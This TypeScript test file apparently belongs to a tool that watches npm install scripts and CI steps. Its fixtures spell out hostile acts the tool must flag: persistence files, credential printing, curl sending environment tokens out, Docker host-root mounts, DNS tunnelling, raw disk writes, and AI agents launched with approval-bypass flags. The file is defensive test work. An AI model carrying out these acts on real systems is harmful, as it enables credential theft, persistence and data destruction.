import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Actor } from '../../pipeline/actor.ts';
import { jobScenario, type Outcome, Scenario } from '../../pipeline/scenario.ts';

const packages = { '/w/node_modules/p': 'p', '/w': 'project' };
type Act = (actor: Actor) => unknown;

const invariants = ({ document }: Outcome): string[] =>
  [...new Set(document.findings.filter(({ kind }) => kind === 'invariant').map(({ rule }) => rule))].sort();

/** The invariants that acts in a dependency's script break; `cwd` may be the workspace's own. */
function inRole(act: Act, cwd = '/w/node_modules/p'): string[] {
  const world = new Scenario({ packages });
  act(world.run('npm install').starts('sh -c x', { cwd }));
  return invariants(world.judge());
}

/** The same in a job, where the runner names its processes. */
function inJob(act: Act, below = 'npm install', cwd = '/w/node_modules/p'): string[] {
  const world = jobScenario({ packages });
  const step = world.worker().starts(['bash', '-c', 'x'], { env: { GITHUB_ACTION: 's' } });
  act(step.starts(below).starts('sh -c x', { cwd }));
  return invariants(world.judge());
}

/** The invariants that acts of a step break. */
function inStep(act: Act): string[] {
  const world = new Scenario({ packages });
  act(world.run(['bash', '-c', 'x']));
  return invariants(world.judge());
}

/** One rule: what breaks it in a role, and what looks alike and does not. */
interface Case {
  readonly rule: string;
  readonly breaks: readonly Act[];
  readonly fine: readonly Act[];
  /** Whether it holds in a step too. */
  readonly anywhere?: true;
}

const starts =
  (...commands: (string | readonly string[])[]) =>
  (a: Actor) =>
    commands.map((command) => a.starts(command));
const cases: readonly Case[] = [
  {
    rule: 'persistence-in-role',
    breaks: [
      (a) => a.create('/home/u/.config/systemd/user/sysmon.service'),
      (a) => a.create('/etc/systemd/system/x.service'),
      (a) => a.create('/etc/cron.d/x'),
      (a) => a.append('/home/u/.ssh/authorized_keys'),
      (a) => a.create('/etc/sudoers.d/x'),
      (a) => a.create('/home/u/Library/LaunchAgents/x.plist'),
      (a) => a.rename('/w/node_modules/p/x', '/var/spool/cron/u'),
    ],
    fine: [
      (a) => a.append('/home/u/.bashrc'),
      (a) => a.create('/w/node_modules/p/x.service'),
      (a) => a.read('/etc/cron.d/x'),
    ],
  },
  {
    rule: 'secret-scan',
    breaks: [starts('/tmp/trufflehog filesystem / --json'), starts('/usr/bin/gitleaks detect')],
    fine: [starts('/usr/bin/grep -r secret .')],
  },
  {
    rule: 'agent-unasked',
    breaks: [
      starts('/usr/local/bin/claude --dangerously-skip-permissions -p x'),
      starts('node /usr/lib/node_modules/x/gemini.js --yolo'),
      starts('/usr/bin/q chat --trust-all-tools --no-interactive'),
      starts('/usr/bin/gemini --approval-mode yolo'),
      starts('/usr/bin/codex exec --dangerously-bypass-approvals-and-sandbox x'),
    ],
    fine: [starts('/usr/bin/claude --version'), starts('/usr/bin/which claude'), starts('/usr/bin/x --yolo')],
  },
  {
    rule: 'token-printed',
    breaks: [
      starts('/usr/bin/git credential fill'),
      starts('/usr/bin/gcloud auth print-access-token'),
      starts('/usr/bin/aws --profile=x configure export-credentials'),
    ],
    fine: [
      starts('/usr/bin/git log fill'),
      starts('/usr/bin/aws configure list'),
      starts('/usr/bin/git credential approve'),
    ],
  },
  {
    rule: 'container-escape',
    breaks: [
      starts('/usr/bin/docker run --rm --privileged -v /:/host ubuntu'),
      starts('/usr/bin/docker run -v /:/host ubuntu'),
      starts('/usr/bin/docker run --volume=/:/host:ro ubuntu'),
      starts('/usr/bin/podman run --mount type=bind,source=/,target=/h ubuntu'),
      starts('/usr/bin/docker create --pid=host ubuntu'),
    ],
    fine: [
      starts('/usr/bin/docker run -v /w:/w ubuntu'),
      starts('/usr/bin/docker ps'),
      starts('/usr/bin/ls run --privileged'),
    ],
  },
  {
    rule: 'environment-sent',
    anywhere: true,
    breaks: [
      starts([
        'curl',
        '-d',
        'A_TOKEN=<redacted:1>\nHOME=/x\nB_SECRET=<redacted:2>\nNPM_TOKEN=<redacted:3>',
        'http://x',
      ]),
    ],
    fine: [
      starts(['curl', '-d', 'client_secret=<redacted:1>&refresh_token=<redacted:2>&password=<redacted:3>', 'http://x']),
      starts(['curl', '-d', 'A_TOKEN=<redacted:1>&B_TOKEN=<redacted:2>', 'http://x']),
      starts(['docker', 'build', '--build-arg', 'A_TOKEN=<redacted:1>', '--build-arg', 'B_TOKEN=<redacted:2>', '.']),
    ],
  },
  {
    rule: 'signing-in-role',
    breaks: [
      (a) => a.connect('192.0.2.4', 443, 'fulcio.sigstore.dev'),
      (a) => a.starts('node x.js').connect('192.0.2.4', 443, 'rekor.sigstore.dev'),
    ],
    fine: [
      (a) => a.connect('192.0.2.4', 443, 'tuf-repo-cdn.sigstore.dev'),
      (a) => a.connect('192.0.2.4', 443, 'fulcio.sigstore.dev.evil.test'),
    ],
  },
  {
    rule: 'dns-channel',
    breaks: [
      (a) => [1, 2, 3, 4, 5].map((i) => a.ask(`${i}${'a'.repeat(50)}.evil.test`)),
      (a) =>
        [1, 2, 3, 4, 5].map(() => a.does('dns.query', { name: 'c2.evil.test', type: 'TXT', resolver: '192.0.2.53' })),
    ],
    fine: [
      (a) => [1, 2, 3, 4].map(() => a.does('dns.query', { name: 'x.test', type: 'TXT', resolver: '192.0.2.53' })),
      (a) => [1, 2, 3, 4, 5, 6].map((i) => a.ask(`${i}.cdn.test`)),
    ],
  },
  {
    rule: 'disk-write',
    anywhere: true,
    breaks: [(a) => a.starts('dd of=/dev/sda').modify('/dev/sda'), (a) => a.truncate('/dev/nvme0n1p1')],
    fine: [
      (a) => a.modify('/dev/null'),
      (a) => a.modify('/dev/loop0'),
      (a) => a.read('/dev/sda'),
      (a) => a.does('file.modify', { path: '/dev/sda', done: false }),
    ],
  },
];
for (const { rule, breaks, fine, anywhere } of cases) {
  test(`${rule}: in a role${anywhere === true ? ' and anywhere else' : ' only'}`, () => {
    breaks.forEach((act, i) => {
      assert.ok(inRole(act).includes(rule), `${i}: ${inRole(act)}`);
      assert.equal(inStep(act).includes(rule), anywhere === true, `${i} in a step`);
      assert.equal(inRole(act, '/w').includes(rule), anywhere === true, `${i} in the workspace’s own script`);
    });
    fine.forEach((act, i) => {
      assert.ok(!inRole(act).includes(rule), `near miss ${i}`);
    });
  });
}

test('gh auth token below an install publishes nothing and prints a token', () => {
  assert.deepEqual(inRole(starts('/usr/bin/gh auth token')), ['publish-in-role', 'token-printed']);
});

test('action-changed: nobody changes an action that the runner fetched', () => {
  const action = '/home/runner/work/_actions/actions/checkout/v4';
  assert.deepEqual(
    inStep((a) => a.starts('python3 x.py').modify(`${action}/action.yml`)),
    ['action-changed'],
  );
  assert.deepEqual(
    inStep((a) => a.starts('tar x').delete(`${action}/dist/index.js`)),
    ['action-changed'],
  );
  assert.deepEqual(
    inStep((a) => a.create('/tmp/x').rename('/tmp/x', `${action}/action.yml`)),
    ['action-changed'],
  );
  const own = inStep((a) => {
    a.starts('npm ci').create(`${action}/node_modules/x.js`).modify(`${action}/node_modules/x.js`);
    a.starts('python3 x.py')
      .create(`${action}/__pycache__/x.1`)
      .rename(`${action}/__pycache__/x.1`, `${action}/__pycache__/x`);
    a.read(`${action}/action.yml`).chmod(`${action}/run.sh`);
    a.delete(`${action}/node_modules/x.js`);
  });
  assert.deepEqual(own, [], 'modules that an action installs beside itself');
  const variables = { 'runner:actions': { values: ['/c/0123456789abcdef/act/actions'], trusted: true, source: 'act' } };
  const world = new Scenario({ variables });
  world.run(['bash', '-c', 'x']).modify('/c/0123456789abcdef/act/actions/lab-a@v1/index.js');
  assert.ok(world.judge().rules.includes('action-changed'), 'where act keeps them');
});

test('untracked: a role’s process under another tracking id, by which the runner would not find it', () => {
  const under = (id: string) => (a: Actor) => a.starts('nohup ./run.sh', { env: { RUNNER_TRACKING_ID: id } });
  assert.deepEqual(inJob(under('0')), ['untracked']);
  assert.deepEqual(inJob(under('')), ['untracked']);
  assert.deepEqual(inJob(under('github_9c1e')), []);
  assert.deepEqual(
    inJob((a) => a.starts('x', { env: {} })),
    [],
    'sudo takes all variables away',
  );
  assert.deepEqual(inJob(under('0'), 'sh -c y', '/w'), [], 'a step that means it');
  assert.deepEqual(inRole(under('0')), [], 'no runner');
});
